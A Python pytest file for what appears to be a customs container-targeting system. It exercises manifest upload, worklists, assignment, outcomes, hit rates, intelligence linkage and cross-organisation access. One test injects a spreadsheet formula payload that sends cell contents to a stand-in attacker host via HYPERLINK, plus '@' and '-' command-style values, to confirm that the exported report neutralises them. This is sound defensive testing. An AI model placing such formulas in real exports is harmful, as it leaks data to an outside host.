"""The PCU workflow through its pages and API: upload, worklist, capacity, assignment, outcomes feeding profile hit
rates and the review flag, seizure -> prefilled incident linked back, intelligence hits only through readable
incidents, the random floor, the performance page's figures, and access (another organisation gets 404)."""

from __future__ import annotations

import csv
import io
import re
import uuid
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from interdict.audit.models import AuditEntry
from interdict.core.clock import utcnow
from interdict.linkage.tasks import drain
from interdict.targeting import service
from interdict.targeting.models import TargetingRecord
from interdict.targeting.schemas import OutcomeBody
from tests.conftest import World, minimal_incident, run_jobs
from tests.targeting.test_workflow_load import MISMATCH, profile
from tests.targeting.workflow_data import BAD, GOOD, load, row, write
from tests.web.test_pages import login


def upload(client: TestClient, token: str, path: Path, name: str = "EVER LUCKY 112E") -> Any:
    with path.open("rb") as fh:
        return client.post(
            "/targeting/upload",
            data={"csrf_token": token, "mapping": "generic-manifest", "batch_name": name},
            files={"file": (path.name, fh, "text/csv")},
            follow_redirects=False,
        )


def loaded(client: TestClient, world: World, r: Any) -> tuple[Any, str]:
    """After an upload: it was queued (303 to its job's page); run the job; (the job's page, its worklist link)."""
    assert r.status_code == 303, r.text
    assert re.fullmatch(r"/jobs/[0-9a-f-]{36}", r.headers["location"]), r.headers["location"]
    assert run_jobs(world.app) == 1
    page = client.get(r.headers["location"])
    assert page.status_code == 200 and 'data-status="done"' in page.text, page.text
    link = re.search(r'id="job-open" href="([^"]+)"', page.text)
    assert link is not None, page.text
    return page, link.group(1).replace("&amp;", "&")


def ids(world: World, batch_id: uuid.UUID) -> dict[str, uuid.UUID]:
    with world.session() as s:
        return {
            r.record_id: r.id for r in s.scalars(select(TargetingRecord).where(TargetingRecord.batch_id == batch_id))
        }


def test_upload_worklist_capacity_outcome_and_seizure_to_incident(
    client: TestClient, world: World, tmp_path: Path
) -> None:
    profile(world, "analyst", MISMATCH, weight=0.4)
    token = login(client)
    job_page, worklist_url = loaded(client, world, upload(client, token, write(tmp_path / "m.csv", GOOD + BAD)))
    assert "4 new, 0 updated, 0 unchanged" in job_page.text and "7 rows read, 3 rejected" in job_page.text
    assert "check digit" in job_page.text and "not an HS code" in job_page.text  # the rejected rows, at once
    page = client.get(worklist_url)
    assert "4 new, 0 updated, 0 unchanged" in page.text
    assert "No learned model is configured" in page.text
    assert "check digit" in page.text and "not an HS code" in page.text
    batch_id = uuid.UUID(worklist_url.split("/batches/")[1].split("?")[0])
    report = client.get(f"/targeting/batches/{batch_id}/rejections.csv")
    assert report.status_code == 200 and report.text.splitlines()[0] == "row,record_id,field,column,reason"
    assert len(report.text.splitlines()) == 4
    order = re.findall(r'data-record="([^"]+)"', page.text)
    assert order[0] == "R3"  # the profile's match first, with its reason
    assert "matched" in page.text

    # A binary file is refused by content, whatever its name.
    bad = tmp_path / "evil.csv"
    bad.write_bytes(b"\x00\x01\x02garbage")
    assert upload(client, token, bad).status_code == 422

    rec = ids(world, batch_id)
    settings = world.app.state.settings
    over = {"csrf_token": token, "record": [str(rec[k]) for k in rec] * 1}
    world.app.state.settings = settings.model_copy(update={"targeting_capacity": 2})
    try:
        r = client.post(f"/targeting/batches/{batch_id}/select", data=over)
        assert r.status_code == 422 and "capacity exceeded" in r.text
        r = client.post(
            f"/targeting/batches/{batch_id}/select",
            data={"csrf_token": token, "record": [str(rec["R2"]), str(rec["R3"])]},
            follow_redirects=False,
        )
        assert r.status_code == 303
    finally:
        world.app.state.settings = settings
    worklist = client.get(f"/targeting/batches/{batch_id}")
    assert 'value="officer2.hp"' in worklist.text and 'value="viewer.hp"' not in worklist.text  # who may be assigned
    r = client.post(
        f"/targeting/records/{rec['R2']}/assign",
        data={"csrf_token": token, "username": "officer2.hp"},
        follow_redirects=False,
    )
    assert r.status_code == 303
    r = client.post(
        f"/targeting/records/{rec['R3']}/outcome", data={"csrf_token": token, "outcome": "irregularity", "notes": ""}
    )
    assert r.status_code == 422 and "say what was found" in r.text
    r = client.post(
        f"/targeting/records/{rec['R2']}/outcome",
        data={"csrf_token": token, "outcome": "seizure", "notes": "120 kg acetic anhydride behind furniture"},
        follow_redirects=False,
    )
    assert r.headers["location"] == f"/incidents/new?from_target={rec['R2']}"
    form = client.get(r.headers["location"])
    assert form.status_code == 200 and "R2" in form.text
    for value in (
        "TGHU7654320",
        "EVER LUCKY",
        "112E",
        "BLR2",
        "29152400",
        "Hoang Phat Chemical Trading Co., Ltd",
        "CNSHA",
        "VNHPH",
    ):
        assert value in form.text, value
    r = client.post(
        "/incidents/new",
        data={
            "csrf_token": token,
            "from_target": str(rec["R2"]),
            "incident_type": "seizure",
            "incident_date": "2026-03-10",
            "country": "VN",
            "locode": "VNHPH",
            "containers-0-number": "TGHU7654320",
            "substances-0-substance": "acetic anhydride",
            "substances-0-quantity": "120",
            "substances-0-unit": "kg",
            "action": "save",
        },
        follow_redirects=False,
    )
    assert r.status_code == 303, r.text
    with world.session() as s:
        linked = s.get(TargetingRecord, rec["R2"])
        assert linked is not None and linked.incident_id is not None and linked.outcome == "seizure"
    page = client.get(f"/targeting/batches/{batch_id}")
    assert "120 kg acetic anhydride" in page.text and "assigned to officer2.hp" in page.text

    # Another organisation cannot see the load or touch its records.
    police = TestClient(client.app, base_url="http://testserver")
    login(police, "police")
    assert police.get(f"/targeting/batches/{batch_id}").status_code == 404
    r = client.get(f"/api/v1/targeting/batches/{batch_id}/records", headers=world.h("officer.kh"))
    assert r.status_code == 404
    r = client.get(f"/api/v1/targeting/batches/{batch_id}/records", headers=world.h("officer.hcm"))
    assert r.status_code == 200 and len(r.json()) == 4  # same organisation tree: read
    r = client.post(
        f"/api/v1/targeting/records/{rec['R3']}/outcome",
        json={"outcome": "nothing_found"},
        headers=world.h("officer.hcm"),
    )
    assert r.status_code == 403


def test_outcomes_update_hit_rates_and_flag_a_missing_profile(client: TestClient, world: World, tmp_path: Path) -> None:
    miss = profile(world, "analyst", {"all": [{"field": "country_origin", "op": "eq", "value": "CN"}]}, weight=0.3)
    rows = [row(f"H{i}", containers="") for i in range(4)]
    result = load(world, write(tmp_path / "h.csv", rows))
    rec = ids(world, result["batch_id"])
    settings = world.app.state.settings.model_copy(
        update={"targeting_review_min_inspected": 3, "targeting_review_hit_rate": 0.5}
    )
    subject = world.subject("officer.hp")
    with world.session() as s:
        service.select_records(s, subject, settings, result["batch_id"], list(rec.values()), now=utcnow())
        for k in ("H0", "H1", "H2"):
            service.record_outcome(s, subject, rec[k], OutcomeBody(outcome="nothing_found"), now=utcnow())
    with world.session() as s:
        read = service.profiles_read(s, subject, settings, [service.get_profile(s, subject, miss)])[0]
    assert (read.hits, read.inspected, read.irregular, read.flagged) == (4, 3, 0, True)
    with world.session() as s:
        service.record_outcome(
            s, subject, rec["H3"], OutcomeBody(outcome="irregularity", notes="undeclared"), now=utcnow()
        )
        read = service.profiles_read(s, subject, settings, [service.get_profile(s, subject, miss)])[0]
    assert (read.inspected, read.irregular, read.hit_rate, read.flagged) == (4, 1, 0.25, True)


def test_random_floor_is_recorded_as_random_and_reproducible(client: TestClient, world: World, tmp_path: Path) -> None:
    rows = [row(f"F{i:02d}", containers="") for i in range(20)]
    result = load(world, write(tmp_path / "f.csv", rows), targeting_random_share=0.1)
    with world.session() as s:
        chosen = s.scalars(
            select(TargetingRecord).where(
                TargetingRecord.batch_id == result["batch_id"], TargetingRecord.selected.is_(True)
            )
        ).all()
        assert len(chosen) == 2 and {r.selected_reason for r in chosen} == {"random"}
        assert all(r.reasons[-1]["source"] == "random" for r in chosen)
        first = {r.record_id for r in chosen}
    again = load(
        world,
        write(tmp_path / "f2.csv", [*rows[:-1], row("F19", containers="", goods_description="x")]),
        targeting_random_share=0.1,
    )
    with world.session() as s:
        chosen = s.scalars(
            select(TargetingRecord).where(
                TargetingRecord.batch_id == again["batch_id"], TargetingRecord.selected.is_(True)
            )
        ).all()
        assert {r.record_id for r in chosen} == first  # drawn once per load


def test_intelligence_hits_only_through_readable_incidents(client: TestClient, world: World, tmp_path: Path) -> None:
    shared = minimal_incident(
        distribution="organisation",
        containers=[{"number": "HLXU1357904"}],
        parties=[{"role": "consignee", "kind": "company", "name": "CÔNG TY TNHH HOÀNG PHÁT"}],
    )
    r = client.post("/api/v1/incidents", json={"submit": True, **shared}, headers=world.h("officer.hcm"))
    assert r.status_code == 201, r.text
    readable_ref = r.json()["reference"]
    secret = minimal_incident(
        distribution="unit",
        containers=[{"number": "OOLU1122335"}],
        parties=[{"role": "consignee", "kind": "company", "name": "Minh Long Furniture JSC"}],
    )
    r = client.post("/api/v1/incidents", json={"submit": True, **secret}, headers=world.h("police"))
    assert r.status_code == 201, r.text
    secret_ref = r.json()["reference"]
    drain(world.app.state.sessionmaker)
    rows = [
        row("I1", containers="HLXU1357904", consignee="Hoang Phat Company Limited"),
        row("I2", containers="OOLU1122335", consignee="Minh Long Furniture JSC"),
    ]
    result = load(world, write(tmp_path / "i.csv", rows))
    got = client.get(f"/api/v1/targeting/batches/{result['batch_id']}/records", headers=world.h("officer.hp")).json()
    by_id = {x["record_id"]: x for x in got}
    texts = [x["text"] for x in by_id["I1"]["reasons"]]
    assert any("consignee 'Hoang Phat Company Limited' ~ incident " + readable_ref in t for t in texts), texts
    assert any(f"container HLXU1357904 ~ incident {readable_ref} (1.00)" == t for t in texts), texts
    # I2: no intelligence the unit may read; with no model and no profile nothing else scores it (not a 0.000)
    assert by_id["I1"]["score"] > 0 and by_id["I2"]["score"] is None and by_id["I2"]["reasons"] == []
    with world.session() as s:
        stored = s.scalars(select(TargetingRecord.reasons).where(TargetingRecord.record_id == "I2")).one()
    assert secret_ref not in str(stored)


def test_values_and_name_words_too_common_raise_no_intelligence(
    client: TestClient, world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As in linkage: a value mentioned by more incidents than the cap is no evidence (a forwarder's
    container pool, a carrier's phone), and a name word shared by more register entities than the cap
    proposes no candidates."""
    from interdict.linkage import service as linkage_service

    for n in range(3):
        body = minimal_incident(
            distribution="organisation",
            containers=[{"number": "HLXU1357904"}] if n < 2 else [{"number": "OOLU1122335"}],
            parties=[{"role": "consignee", "kind": "company", "name": f"Sao Bac Dau Logistics {n}"}],
        )
        r = client.post("/api/v1/incidents", json={"submit": True, **body}, headers=world.h("officer.hcm"))
        assert r.status_code == 201, r.text
    drain(world.app.state.sessionmaker)
    rows = [
        row("C1", containers="HLXU1357904", consignee="Unrelated Trading Co"),  # in 2 incidents
        row(
            "C2", containers="OOLU1122335", consignee="Cong ty Sao Bac Dau Logistics"
        ),  # in 1; a variant of a name whose words are in 3
    ]
    monkeypatch.setattr(linkage_service, "MAX_INCIDENTS_PER_VALUE", 1)
    monkeypatch.setattr(linkage_service, "TOKEN_POSTINGS_CAP", 2)
    result = load(world, write(tmp_path / "c.csv", rows))
    got = client.get(f"/api/v1/targeting/batches/{result['batch_id']}/records", headers=world.h("officer.hp")).json()
    texts = {x["record_id"]: [reason["text"] for reason in x["reasons"]] for x in got}
    assert not any("HLXU1357904 ~ incident" in t for t in texts["C1"]), texts
    assert any(t.startswith("container OOLU1122335 ~ incident") for t in texts["C2"]), texts
    assert not any(t.startswith("consignee 'Cong ty Sao Bac Dau Logistics' ~") for t in texts["C2"]), texts
    monkeypatch.setattr(linkage_service, "MAX_INCIDENTS_PER_VALUE", 200)
    monkeypatch.setattr(linkage_service, "TOKEN_POSTINGS_CAP", 200)
    again = load(
        world,
        write(tmp_path / "c2.csv", [row("C3", containers="HLXU1357904", consignee="Cong ty Sao Bac Dau Logistics")]),
    )
    got = client.get(f"/api/v1/targeting/batches/{again['batch_id']}/records", headers=world.h("officer.hp")).json()
    texts3 = [reason["text"] for reason in got[0]["reasons"]]
    assert sum("HLXU1357904 ~ incident" in t for t in texts3) == 2, texts3  # under the caps: every incident cited
    assert any(t.startswith("consignee 'Cong ty Sao Bac Dau Logistics' ~") for t in texts3), texts3


def test_performance_page_figures(client: TestClient, world: World, tmp_path: Path) -> None:
    profile(world, "analyst", {"all": [{"field": "country_origin", "op": "eq", "value": "MM"}]}, weight=0.5)
    rows = [
        row(f"P{i}", containers="", date="2026-02-0" + str(i + 1), country_of_origin="MM" if i < 2 else "CN")
        for i in range(6)
    ]
    result = load(world, write(tmp_path / "p.csv", rows), targeting_random_share=0.2)  # 1 random
    rec = ids(world, result["batch_id"])
    subject = world.subject("officer.hp")
    settings = world.app.state.settings.model_copy(update={"targeting_capacity": 2})
    with world.session() as s:
        random_ids = set(s.scalars(select(TargetingRecord.id).where(TargetingRecord.selected_reason == "random")))
        pick = [rec["P0"], rec["P1"]]
        service.select_records(
            s, subject, settings, result["batch_id"], [p for p in pick if p not in random_ids], now=utcnow()
        )
        service.record_outcome(s, subject, rec["P0"], OutcomeBody(outcome="seizure", notes="x"), now=utcnow())
        for rid in ({rec["P1"]} | random_ids) - {rec["P0"]}:
            service.record_outcome(s, subject, rid, OutcomeBody(outcome="nothing_found"), now=utcnow())
        perf = service.performance(s, subject, settings)
    assert len(random_ids) == 1
    assert [m.month for m in perf.months] == ["2026-02"]
    m = perf.months[0]
    inspected = {rec["P0"], rec["P1"]} | random_ids
    assert (m.random_inspected, m.random_hits) == (1, int(rec["P0"] in random_ids))
    assert (m.risk_inspected, m.risk_hits) == (len(inspected) - 1, int(rec["P0"] not in random_ids))
    assert (perf.top_inspected, perf.top_hits) == (2, 1)
    login(client)
    world.app.state.settings, old = settings, world.app.state.settings
    try:
        page = client.get("/targeting/performance")
    finally:
        world.app.state.settings = old
    assert page.status_code == 200 and 'id="precision-value">50 %' in page.text


def test_phones_link_to_readable_incidents_and_watch_lists_never_to_withheld_persons(
    client: TestClient, world: World, tmp_path: Path
) -> None:
    def person(phone: str) -> list[dict[str, str]]:
        return [{"role": "consignee", "kind": "person", "name": "Nguyen Van Tam", "phone": phone}]

    shared = minimal_incident(distribution="organisation", parties=person("+84 90 123 4567"))
    r = client.post("/api/v1/incidents", json={"submit": True, **shared}, headers=world.h("officer.hcm"))
    assert r.status_code == 201, r.text
    readable_ref = r.json()["reference"]
    # Police share with everyone but without the persons: their phones must not link.
    withheld = minimal_incident(distribution="all", share_nominal=False, parties=person("0912 345 678"))
    r = client.post("/api/v1/incidents", json={"submit": True, **withheld}, headers=world.h("police"))
    assert r.status_code == 201, r.text
    withheld_ref = r.json()["reference"]
    drain(world.app.state.sessionmaker)
    r = client.post("/api/v1/watch/lists", json={"name": "phones of interest"}, headers=world.h("officer.hp"))
    list_id = r.json()["id"]
    r = client.post(
        f"/api/v1/watch/lists/{list_id}/entries",
        json={"kind": "phone", "value": "+84 98 765 4321", "reason": "courier for the Hoang Phat ring"},
        headers=world.h("officer.hp"),
    )
    assert r.status_code == 201, r.text

    rows = [
        row("T1", containers="", notify_party_phone="090 123 4567"),  # the shared incident's, written nationally
        row("T2", containers="", consignee_phone="+84912345678"),  # only in the withheld persons
        row("T3", containers="", shipper_phone="0987654321"),  # on the unit's watch list
    ]
    result = load(world, write(tmp_path / "t.csv", rows))
    with world.session() as s:
        last = s.scalar(select(AuditEntry.seq).order_by(AuditEntry.seq.desc()).limit(1)) or 0
    got = client.get(f"/api/v1/targeting/batches/{result['batch_id']}/records", headers=world.h("officer.hp")).json()
    texts = {x["record_id"]: [reason["text"] for reason in x["reasons"]] for x in got}
    assert f"phone +84901234567 ~ incident {readable_ref} (1.00)" in texts["T1"], texts
    # a person's phone in an incident: showing the link is a read of that incident's person data, audited
    with world.session() as s:
        stored = s.scalars(select(TargetingRecord.reasons).where(TargetingRecord.record_id == "T1")).one()
        reads = list(
            s.scalars(select(AuditEntry).where(AuditEntry.seq > last, AuditEntry.action == "incident.read_nominal"))
        )
    assert any(x.get("nominal") is True and x.get("incident_id") for x in stored), stored
    assert [(e.object_label, e.actor_username) for e in reads] == [(readable_ref, "officer.hp")], reads
    assert texts["T2"] == [] and withheld_ref not in str(got)
    assert "phone +84987654321 on watch list 'phones of interest'" in texts["T3"], texts
    scores = {x["record_id"]: x["score"] for x in got}
    assert scores["T1"] > 0 and scores["T3"] > 0 and scores["T2"] is None  # nothing scored it: no model, no profile


def test_upload_errors_stay_on_the_form_and_a_seizure_left_unrecorded_can_be_reopened(
    client: TestClient, world: World, tmp_path: Path
) -> None:
    token = login(client)
    settings = world.app.state.settings
    world.app.state.settings = settings.model_copy(update={"targeting_max_upload_bytes": 1024})
    try:
        r = upload(client, token, write(tmp_path / "big.csv", GOOD * 3))
    finally:
        world.app.state.settings = settings
    assert r.status_code == 413 and "larger than the limit" in r.text and 'id="t-file"' in r.text
    _, worklist_url = loaded(client, world, upload(client, token, write(tmp_path / "m.csv", GOOD)))
    batch_id = uuid.UUID(worklist_url.split("/batches/")[1].split("?")[0])
    rec = ids(world, batch_id)
    client.post(f"/targeting/batches/{batch_id}/select", data={"csrf_token": token, "record": [str(rec["R2"])]})
    r = client.post(
        f"/targeting/records/{rec['R2']}/outcome",
        data={"csrf_token": token, "outcome": "seizure", "notes": "drums of acetic anhydride"},
        follow_redirects=False,
    )
    assert r.headers["location"] == f"/incidents/new?from_target={rec['R2']}"
    # The officer went elsewhere instead of saving the incident: the worklist offers the prefilled form again.
    page = client.get(f"/targeting/batches/{batch_id}")
    assert f'href="/incidents/new?from_target={rec["R2"]}"' in page.text
    # A filter submitted from a page answering a refused action goes to the worklist, not to the action's URL.
    r = client.post(f"/targeting/batches/{batch_id}/select", data={"csrf_token": token})
    assert r.status_code == 422 and f'action="/targeting/batches/{batch_id}" class="row" id="filters"' in r.text


def test_the_rejection_report_is_audited_and_no_cell_is_a_formula(
    client: TestClient, world: World, tmp_path: Path
) -> None:
    """The report repeats what the uploaded file said (record ids, values in the reasons): never a live formula
    in the spreadsheet that opens it, and downloading it is an export like any other (audited)."""
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"Details")'
    token = login(client)
    r = upload(
        client, token, write(tmp_path / "m.csv", [*GOOD, row(evil, hs_code="@SUM(1+1)"), row("-1+cmd", date="x")])
    )
    _, worklist = loaded(client, world, r)
    batch_id = uuid.UUID(worklist.split("/batches/")[1].split("?")[0])
    with world.session() as s:
        mark = s.scalar(select(AuditEntry.seq).order_by(AuditEntry.seq.desc()).limit(1))
    report = client.get(f"/targeting/batches/{batch_id}/rejections.csv")
    assert report.status_code == 200
    cells = [c for line in csv.reader(io.StringIO(report.text)) for c in line]
    starts = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    assert [c for c in cells if c.startswith(starts)] == []
    assert "'" + evil in cells and "'-1+cmd" in cells
    with world.session() as s:
        got = list(s.scalars(select(AuditEntry).where(AuditEntry.seq > mark)))
        entries = [(e.action, e.actor_username, e.object_id, e.after) for e in got]
    assert entries == [
        ("targeting.export_rejections", "officer.hp", str(batch_id), {"format": "csv", "rows": len(cells) // 5 - 1})
    ]
